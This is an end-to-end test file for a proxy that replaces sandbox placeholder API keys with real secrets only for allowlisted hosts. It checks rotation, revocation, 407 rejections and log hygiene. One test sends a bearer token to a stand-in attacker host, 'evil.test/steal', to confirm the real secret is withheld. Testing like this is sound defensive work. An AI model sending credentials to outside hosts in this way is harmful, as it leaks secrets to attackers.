/**
 * The whole product through `veil serve` as a real process: secrets and sandboxes created through
 * the HTTP API, curl through the embedded proxy to a real HTTPS upstream on 127.0.0.1. Asserts on
 * what the upstream received, and that writes through the API are seen by the very next request.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { curl } from '../helpers/proxy-clients.js';
import { adminApi, startServeProcess, type ServeProcess } from '../helpers/serve-process.js';
import { createTestCa, startUpstream, type TestUpstream } from '../helpers/upstream.js';

const VALUE = 'sk-e2e-REAL-VALUE-9f8e7d6c5b4a';
const ROTATED = 'sk-e2e-ROTATED-VALUE-0a1b2c3d';

describe('veil serve: control plane + embedded proxy', () => {
  let upstream: TestUpstream;
  let veil: ServeProcess;
  let caFile: string;
  let secretId: string;
  let sandbox: { id: string; proxyToken: string; env: Record<string, string>; proxyUrl: string; caCertPem: string; proxyEnv: Record<string, string> };

  const api = (method: string, path: string, body?: unknown) => adminApi(veil, method, path, body);

  function through(host: string, path: string, credentials = `${sandbox.id}:${sandbox.proxyToken}`) {
    const placeholder = sandbox.env.OPENAI_API_KEY!;
    return curl(`https://${host}:${upstream.port}${path}`, [
      '-x', veil.proxyUrl!,
      '--proxy-user', credentials,
      '--cacert', caFile,
      '--resolve', `${host}:${upstream.port}:127.0.0.1`,
      '-H', `Authorization: Bearer ${placeholder}`,
    ]);
  }

  const lastReceived = () => upstream.received.at(-1)!;

  beforeAll(async () => {
    const testCa = createTestCa();
    upstream = await startUpstream(testCa.issue(['api.openai.test', 'evil.test']));
    veil = await startServeProcess({
      proxy: true,
      env: {
        VEIL_UPSTREAM_CA_FILE: testCa.certFile,
        VEIL_RESOLVE: 'api.openai.test=127.0.0.1,evil.test=127.0.0.1',
      },
    });
    // VEIL_CA_DIR defaults to ./certs relative to the serve process's cwd; the helper sets it in the data dir.
    caFile = String(veil.ready.caCertFile ?? join(veil.dataDir, 'certs', 'ca.pem'));
    const created = await api('POST', '/secret', { name: 'openai-prod', value: VALUE, hosts: ['api.openai.test'] });
    expect(created.status).toBe(201);
    secretId = created.json.id;
    const box = await api('POST', '/sandbox', { name: 'agent-1', secrets: [{ OPENAI_API_KEY: 'openai-prod' }] });
    expect(box.status).toBe(201);
    sandbox = box.json;
    expect(veil.proxyUrl).toMatch(/^http:\/\/127\.0\.0\.1:\d+$/);
  });

  afterAll(async () => {
    await veil?.stop();
    await upstream?.close();
  });

  it('tells the new sandbox how to use the proxy: URL, CA and an env template (shown once)', async () => {
    expect(sandbox.proxyUrl).toBe(veil.proxyUrl);
    expect(sandbox.caCertPem).toBe(readFileSync(caFile, 'utf8'));
    expect(sandbox.proxyEnv.SSL_CERT_FILE).toBe('/etc/veil/ca-bundle.pem');
    expect(sandbox.proxyEnv.NODE_EXTRA_CA_CERTS).toBe('/etc/veil/ca.pem');
    expect(sandbox.proxyEnv.NO_PROXY).toBe('localhost,127.0.0.1,::1');
    // The template's own proxy URL (with the credentials) is what a sandbox's curl would use.
    const result = await curl(`https://api.openai.test:${upstream.port}/from-template`, [
      '-x', sandbox.proxyEnv.HTTPS_PROXY!,
      '--cacert', caFile,
      '--resolve', `api.openai.test:${upstream.port}:127.0.0.1`,
      '-H', `Authorization: Bearer ${sandbox.env.OPENAI_API_KEY}`,
    ]);
    expect(result.status).toBe(200);
    expect(lastReceived().headers.authorization).toBe(`Bearer ${VALUE}`);
    const again = await api('GET', `/sandbox/${sandbox.id}`);
    expect(again.json.proxyToken).toBeUndefined();
    expect(again.json.proxyEnv).toBeUndefined();
  });

  it('swaps the placeholder for the allowed host, in the header and the query', async () => {
    const result = await through('api.openai.test', `/v1/models?key=${sandbox.env.OPENAI_API_KEY}`);
    expect(result.status).toBe(200);
    expect(lastReceived().headers.authorization).toBe(`Bearer ${VALUE}`);
    expect(lastReceived().url).toBe(`/v1/models?key=${VALUE}`);
  });

  it('forwards the placeholder unchanged to a host that is not on the allowlist', async () => {
    const result = await through('evil.test', '/steal');
    expect(result.status).toBe(200);
    expect(lastReceived().headers.authorization).toBe(`Bearer ${sandbox.env.OPENAI_API_KEY}`);
  });

  it('refuses a wrong proxy token with 407', async () => {
    const before = upstream.received.length;
    const result = await through('api.openai.test', '/', `${sandbox.id}:wrong-token`);
    expect(result.connectStatus || result.status).toBe(407);
    expect(upstream.received.length).toBe(before);
  });

  it('uses a rotated value on the very next request', async () => {
    expect((await api('PATCH', `/secret/${secretId}`, { value: ROTATED })).status).toBe(200);
    await through('api.openai.test', '/after-rotation');
    expect(lastReceived().headers.authorization).toBe(`Bearer ${ROTATED}`);
  });

  it('stops substituting on the very next request after the secret is unmounted', async () => {
    expect((await api('PUT', `/sandbox/${sandbox.id}/secrets`, { secrets: [] })).status).toBe(200);
    await through('api.openai.test', '/after-unmount');
    expect(lastReceived().headers.authorization).toBe(`Bearer ${sandbox.env.OPENAI_API_KEY}`);
  });

  it('rejects the sandbox with 407 right after it is deleted', async () => {
    expect((await api('DELETE', `/sandbox/${sandbox.id}`)).status).toBe(204);
    const before = upstream.received.length;
    const result = await through('api.openai.test', '/after-delete');
    expect(result.connectStatus || result.status).toBe(407);
    expect(upstream.received.length).toBe(before);
  });

  it('never wrote a value to its logs', () => {
    const output = veil.stdoutLines.join('\n') + veil.stderr();
    expect(output).toContain('"msg":"ready"');
    expect(output).not.toContain(VALUE);
    expect(output).not.toContain(ROTATED);
  });
});
